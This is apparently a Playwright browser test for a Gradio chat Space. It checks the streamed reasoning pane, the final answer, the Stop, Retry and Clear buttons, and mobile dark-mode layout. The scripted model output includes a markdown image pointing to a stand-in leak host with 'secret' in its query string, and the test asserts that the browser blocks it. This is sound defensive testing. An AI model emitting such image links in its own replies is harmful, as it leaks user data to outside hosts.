"""The Space in a real browser: a question, the reasoning in its pane, the answer, and Stop."""

import shutil
import socket
import time

import pytest
from scripted import ScriptedStream, in_a_loop, load_app

from think_tools.tiny.load import FOLDER

gr = pytest.importorskip("gradio", reason="the Space needs think-tools[space]")
playwright = pytest.importorskip("playwright.sync_api", reason="playwright drives the browser")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
    # Gradio sets it after every event; pandas 3 wants nobody to: https://github.com/pandas-dev/pandas/issues/57403
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated"),
]

ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
STEPS = "\n\n".join(f"Step {i}: \\({i} \\times 7 = {i * 7}\\)." for i in range(40))
TEXT = f"<think>\n{STEPS}\n</think>\n\nIt is **1081**.\n\n![picture](http://leak.example.test/a.png?what=secret)"


@pytest.fixture(scope="module")
def app():
    return load_app()


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def open_page(app, browser):
    """Serves a source of events and opens it in a new tab."""
    served, tabs = [], []

    def open_(stream, **options):
        page = in_a_loop(lambda: app.build_page(stream, "a model", ["What is 23 times 47?"]))
        served.append(page)
        with socket.create_server(("127.0.0.1", 0)) as free:  # Gradio's own search for a port leaks busy sockets
            port = free.getsockname()[1]
        local = {"server_name": "127.0.0.1", "server_port": port, "prevent_thread_lock": True, "quiet": True}
        address = in_a_loop(lambda: app.launch(page, **local))
        tab = browser.new_page(**options)
        tabs.append(tab)
        tab.goto(address)
        tab.wait_for_selector("textarea")
        return tab

    yield open_
    for tab in tabs:
        tab.close()
    for page in served:
        page.close(verbose=False)


def ask(tab, question):
    tab.locator("textarea").first.fill(question)
    tab.keyboard.press("Enter")


def wait_until(condition, seconds=10.0):
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, "this never came true"
        time.sleep(0.02)


def test_a_question_is_thought_about_answered_and_the_next_one_stopped(open_page):
    stream = ScriptedStream(TEXT, seconds=0.005, hold="Step 24:")
    tab = open_page(stream)
    requested, blocked = [], []
    tab.on("requestfinished", lambda request: requested.append(request.url))
    tab.on("requestfailed", lambda request: blocked.append(request.url))

    ask(tab, "What is 23 times 47?")
    pane = tab.locator(".thought-group")
    pane.get_by_text("Step 3:").wait_for()
    assert "Thinking" in pane.inner_text()
    assert "tokens" in pane.inner_text()
    assert pane.locator(".loading-spinner").count() == 1
    assert tab.get_by_text("It is").count() == 0

    # A long thought keeps its title and its latest line in view.
    pane.get_by_text("Step 20:").wait_for()
    assert pane.bounding_box()["height"] < 250
    assert pane.get_by_text("Thinking").is_visible()

    stream.go.set()
    tab.get_by_text("1081", exact=True).wait_for()
    pane.get_by_text("Thought for").wait_for()
    wait_until(lambda: stream.running == 0)
    pane.get_by_text("Step 3:").wait_for(state="detached")
    assert tab.locator(".loading-spinner").count() == 0
    pane.get_by_text("Thought for").click()
    pane.get_by_text("Step 39:").wait_for()

    # What the model writes cannot make the browser call anyone.
    wait_until(lambda: any("leak.example.test" in url for url in blocked))
    assert not any("leak.example.test" in url for url in requested)

    stream.go.clear()
    tab.locator("button.submit-button").wait_for()  # a question that comes before it is not taken
    ask(tab, "And 24 times 47?")
    playwright.expect(tab.get_by_text("Thinking")).to_be_in_viewport(ratio=1)
    tab.locator("button.stop-button").click()
    wait_until(lambda: stream.running == 0, seconds=3)
    tab.get_by_text("Stopped").wait_for()
    assert tab.locator(".loading-spinner").count() == 0
    tab.locator("button.submit-button").wait_for()
    question, answer, following = stream.prompts[1]
    assert (question["content"], following["content"]) == ("What is 23 times 47?", "And 24 times 47?")
    assert "Step" not in answer["content"]


def test_retry_example_and_clear_on_a_phone_in_the_dark(open_page):
    stream = ScriptedStream("<think>hm</think>It is 1081.")
    tab = open_page(stream, viewport={"width": 390, "height": 780}, color_scheme="dark")
    tab.get_by_text("What is 23 times 47?").click()
    tab.get_by_text("It is 1081.").wait_for()
    tab.get_by_role("button", name="Retry").first.click()
    wait_until(lambda: len(stream.prompts) == 2 and stream.running == 0)
    assert stream.prompts[0] == stream.prompts[1]
    tab.get_by_text("It is 1081.").wait_for()
    assert tab.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    tab.get_by_role("button", name="Clear").first.click()
    tab.get_by_text("It is 1081.").wait_for(state="detached")


@pytest.mark.skipif(not (FOLDER / "thinker").is_dir(), reason="the embedded model's adapter is not built yet")
def test_the_embedded_model_thinks_and_answers(app, open_page):
    tab = open_page(app.load_backend().stream)
    ask(tab, "12*13=?")
    tab.locator(".thought-group").get_by_text("Thought for").wait_for()
    tab.get_by_text("156", exact=True).wait_for()
